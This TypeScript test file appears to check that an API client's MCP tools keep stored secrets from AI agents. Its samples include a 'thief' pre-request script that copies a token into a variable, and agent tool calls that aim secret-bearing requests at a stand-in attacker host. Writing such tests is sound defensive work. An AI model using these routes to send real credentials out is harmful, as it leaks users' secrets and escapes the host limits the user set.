import { AppData, fileSecrets } from '@parley/appdata'
import { nodeFiles } from '@parley/files'
import type { Collection, Folder, Result } from '@parley/model'
import { openWorkspace, type Workspace, type WorkspaceFailure } from '@parley/workspace'
import { describe, expect, test } from 'vitest'
import { canary, request } from './api-workspace.testkit.ts'
import { formsOfCanary, useMcpFixture } from './mcp-fixture.testkit.ts'

const fixture = useMcpFixture()

/** Every call of an agent, in an order in which secrets have gone out before their results are read. */
const calls: readonly (readonly [string, object])[] = [
  ['send_request', { path: 'shop/list.yml' }],
  ['send_request', { path: 'shop/basic.yml' }],
  ['send_request', { path: 'shop/add.yml' }],
  ['send_request', { path: 'shop/down.yml' }],
  ['send_request', { path: 'shop/list.yml', variables: { note: '{{token}}' } }],
  ['send_request', { path: 'shop/list.yml', row: { note: '{{token}}' } }],
  ['run_collection', { path: 'shop' }],
  ['list_requests', {}],
  ['list_requests', { search: canary }],
  ['get_request', { path: 'shop/plain.yml' }],
  ['get_request', { path: canary }],
  ['list_history', {}],
  ['get_run', { id: 'send-1' }],
  ['get_run', { id: 'send-4' }],
  ['get_run', { id: 'run-7' }],
]

test('no output of any call shows a secret that went out, in any form (attacks MC1)', async () => {
  const args = fixture.writeApi()
  // A user who typed the secret itself into a request.
  fixture.writeFile('api/shop/plain.yml', request(`Plain ${canary}`, `{{base}}/plain?key=${canary}`))
  const agent = await fixture.connect(args)
  const texts: string[] = []
  const handles: unknown[] = []
  for (const [name, input] of calls) {
    const { text, data } = await agent.call(name, { ...input })
    texts.push(text, JSON.stringify(data))
    handles.push(data.bodyHandle)
  }
  for (const handle of handles.filter(one => typeof one === 'string' && one !== ''))
    for (const part of [
      {},
      { search: 'c4n4' },
      { search: 'X-Key' },
      { jsonPath: '$.*' },
      { offset: 20, length: 60 },
    ])
      texts.push((await agent.call('read_body', { handle, ...part })).text)
  texts.push(await agent.resource('parley://request/shop/plain.yml'), agent.stderr())
  const sent = fixture.api.requests.map(({ headers }) => headers.find(({ name }) => name === 'X-Key')?.value)
  expect(sent.filter(value => value === canary).length).toBeGreaterThan(5)
  expect(texts.join('\n')).toContain('{{token}}')
  for (const form of formsOfCanary()) expect(texts.join('\n')).not.toContain(form)
})

describe('where an agent decides the host (attacks SE8)', () => {
  const ways: Readonly<Record<string, (host: string) => readonly [string, object]>> = {
    'a variable': host => ['send_request', { path: 'shop/chosen.yml', variables: { where: host } }],
    'a row': host => ['send_request', { path: 'shop/chosen.yml', row: { where: host } }],
    'data of a run': host => ['run_collection', { path: 'shop/chosen.yml', data: [{ where: host }] }],
    'a variable of a run': host => [
      'run_collection',
      { path: 'shop/chosen.yml', variables: { where: host } },
    ],
    'a part of the host': host => [
      'send_request',
      { path: 'shop/part.yml', variables: { port: host.replace(/.*:/, '') } },
    ],
    'a variable, with a header of the workspace': host => [
      'send_request',
      { path: 'shop/plain.yml', variables: { where: host } },
    ],
    'a variable that a script keeps': host => [
      'send_request',
      { path: 'shop/kept.yml', variables: { given: host } },
    ],
  }

  const write = () => {
    const args = fixture.writeApi()
    const file = fixture.read('api/environments/staging.yml')
    const { url, port } = fixture.api
    fixture.writeFile(
      'api/environments/staging.yml',
      file.replace(
        'variables:\n',
        `variables:\n  - name: where\n    value: ${url}\n  - name: port\n    value: "${port}"\n`,
      ),
    )
    fixture.writeFile('api/shop/chosen.yml', request('Chosen', '{{where}}/x'))
    fixture.writeFile('api/shop/plain.yml', request('Plain', '{{where}}/x', {}, { headers: [] }))
    const header = 'request:\n  headers:\n    - name: X-Key\n      value: "{{token}}"\n'
    fixture.writeFile('api/workspace.yml', fixture.read('api/workspace.yml') + header)
    fixture.writeFile('api/shop/part.yml', request('Part', 'http://127.0.0.1:{{port}}/x'))
    fixture.writeFile(
      'api/shop/kept.yml',
      request('Kept', '{{where}}/x', {
        runtime: {
          scripts: [
            { type: 'before-request', code: 'tool.environment.set("where", tool.variables.get("given"))' },
          ],
        },
      }),
    )
    return args
  }

  test.each(Object.keys(ways))('%s: a request with a secret is refused (MC1)', async way => {
    const agent = await fixture.connect(write())
    const [name, input] = ways[way]?.(fixture.evil.url) ?? ['', {}]
    const { isError, text } = await agent.call(name, { ...input })
    expect(isError).toBe(true)
    expect(text).toContain('SECRET_HOST_NOT_ALLOWED')
    expect(text).toContain('--allow-host')
    expect(fixture.evil.requests).toEqual([])
  })

  test.each(Object.keys(ways))('%s: it is sent to a host that the user allowed (MC1)', async way => {
    const agent = await fixture.connect([...write(), '--allow-host', `127.0.0.1:${fixture.evil.port}`])
    const [name, input] = ways[way]?.(fixture.evil.url) ?? ['', {}]
    expect((await agent.call(name, { ...input })).isError).toBe(false)
    expect(fixture.evil.requests[0]?.headers).toContainEqual({ name: 'X-Key', value: canary })
  })

  test('a request without secrets is sent (MC1)', async () => {
    const args = write()
    fixture.writeFile(
      'api/shop/open.yml',
      request('Open', '{{where}}/x', {}, { headers: [{ name: 'x-key', value: 'none' }] }),
    )
    const agent = await fixture.connect(args)
    const variables = { where: fixture.evil.url }
    expect((await agent.call('send_request', { path: 'shop/open.yml', variables })).isError).toBe(false)
    expect(fixture.evil.requests).toHaveLength(1)
  })
})

test('a script reads no secret, also one that the app allows to scripts (MC1)', async () => {
  const args = fixture.writeApi()
  const code = 'tool.environment.set("stolen", tool.variables.get("token"))'
  fixture.writeFile(
    'api/shop/thief.yml',
    request('Thief', '{{base}}/x', { runtime: { scripts: [{ type: 'before-request', code }] } }),
  )
  await storeSecret(true)
  const agent = await fixture.connect(args.slice(0, 3))
  const { isError, text } = await agent.call('send_request', { path: 'shop/thief.yml' })
  expect(isError).toBe(true)
  expect(text).toContain('withheld from scripts')
  expect(fixture.api.requests).toEqual([])
})

test('secrets come from this device, for the environment that is named', async () => {
  const args = fixture.writeApi()
  await storeSecret(false)
  const agent = await fixture.connect(args.slice(0, 3))
  const { isError, text } = await agent.call('send_request', { path: 'shop/list.yml' })
  expect(isError).toBe(false)
  expect(fixture.api.requests[0]?.headers).toContainEqual({ name: 'X-Key', value: canary })
  for (const form of formsOfCanary()) expect(text).not.toContain(form)

  const typed = await fixture.connect([...args.slice(0, 3), '--secret', 'token=typed-on-the-line'])
  await typed.call('send_request', { path: 'shop/list.yml' })
  expect(fixture.api.requests[1]?.headers).toContainEqual({ name: 'X-Key', value: 'typed-on-the-line' })

  const without = await fixture.connect(['api'])
  const { text: missing } = await without.call('send_request', { path: 'shop/list.yml' })
  expect(missing).not.toContain(canary)
  expect(fixture.api.requests.slice(2)).toEqual([])
})

test('a secret that changes on this device is used and hidden with the next send', async () => {
  const args = fixture.writeApi()
  await storeSecret(false, 'the-earlier-value')
  const agent = await fixture.connect(args.slice(0, 3))
  await agent.call('send_request', { path: 'shop/list.yml' })
  await storeSecret(false)
  const { text } = await agent.call('send_request', { path: 'shop/list.yml' })
  const sent = fixture.api.requests.map(({ headers }) => headers.find(({ name }) => name === 'X-Key')?.value)
  expect(sent).toEqual(['the-earlier-value', canary])
  for (const form of formsOfCanary()) expect(text).not.toContain(form)
})

test.each(['collection', 'folder'] as const)(
  'a secret of a %s comes from this device and is hidden, and no script reads it (MC1)',
  async kind => {
    const args = fixture.writeApi()
    const folder = kind === 'folder' ? 'shop/in' : 'shop'
    if (kind === 'folder')
      fixture.writeFile('api/shop/in/folder.yml', { info: { name: 'In', type: 'folder' } })
    const code = 'tool.environment.set("stolen", tool.variables.get("pin"))'
    const thief = { runtime: { scripts: [{ type: 'before-request', code }] } }
    const headers = { headers: [{ name: 'X-Key', value: '{{pin}}' }] }
    fixture.writeFile(`api/${folder}/pin.yml`, request('Pin', '{{base}}/pin', {}, headers))
    fixture.writeFile(`api/${folder}/thief.yml`, request('Thief', '{{base}}/x', thief))
    await inApp(async workspace => {
      const pin = { secret: true, name: 'pin', enabled: true, allowedToScripts: true } as const
      const withPin = <One extends Collection | Folder>(entity: One): One => ({
        ...entity,
        defaults: { ...entity.defaults, variables: [pin] },
      })
      const secretVariables = new Map([['pin', canary]])
      if (kind === 'collection') {
        const { entity, version } = unwrapped(await workspace.readCollection(folder))
        const input = { entity: withPin(entity), baseVersion: version, secretVariables }
        return (await workspace.saveCollection(folder, input)).ok
      }
      const { entity, version } = unwrapped(await workspace.readFolder(folder))
      const input = { entity: withPin(entity), baseVersion: version, secretVariables }
      return (await workspace.saveFolder(folder, input)).ok
    })
    const agent = await fixture.connect(args)
    const sent = await agent.call('send_request', { path: `${folder}/pin.yml` })
    expect([sent.isError, fixture.api.requests[0]?.headers]).toEqual([
      false,
      expect.arrayContaining([{ name: 'X-Key', value: canary }]),
    ])
    const stolen = await agent.call('send_request', { path: `${folder}/thief.yml` })
    expect(stolen.text).toContain('withheld from scripts')
    const set = await agent.call('send_request', { path: `${folder}/pin.yml`, variables: { pin: 'x' } })
    expect(set.text).toContain('SECRET_VARIABLE')
    const listed = await agent.call('get_request', { path: `${folder}/pin.yml` })
    for (const form of formsOfCanary())
      expect([sent.text, stolen.text, set.text, listed.text].join('\n')).not.toContain(form)
    expect(fixture.api.requests).toHaveLength(1)
  },
)

/** Stores the secret of the environment as the app does, and whether scripts may read it. */
function storeSecret(allowedToScripts: boolean, value = canary): Promise<void> {
  return inApp(async workspace => {
    const path = 'environments/staging.yml'
    const { entity, version } = unwrapped(await workspace.readEnvironment(path))
    const variables = entity.variables.map(one => (one.secret ? { ...one, allowedToScripts } : one))
    const saved = await workspace.saveEnvironment(path, {
      entity: { ...entity, variables },
      baseVersion: version,
      secretVariables: new Map([['token', value]]),
    })
    return saved.ok
  })
}

/** Changes the workspace as the app does. */
async function inApp(change: (workspace: Workspace) => Promise<boolean>): Promise<void> {
  const home = fixture.env().PARLEY_HOME
  await nodeFiles.makeFolder(home, 0o700)
  const opened = await AppData.open(home, { keychain: async () => null, ownThread: false })
  if (!opened.ok) throw new Error(opened.failure.code)
  const appData = opened.value
  const root = fixture.path('api')
  const workspace = await openWorkspace(
    {
      files: nodeFiles,
      secrets: fileSecrets(appData.secrets),
      identities: appData.identitiesOf(await appData.workspaceKeys.keyOf(root, async () => null)),
      trashFolder: fixture.path('trash'),
    },
    root,
  )
  expect(await change(unwrapped(workspace))).toBe(true)
  await appData.close()
}

function unwrapped<Value>(result: Result<Value, WorkspaceFailure>): Value {
  if (!result.ok) throw new Error(result.failure.sentence)
  return result.value
}
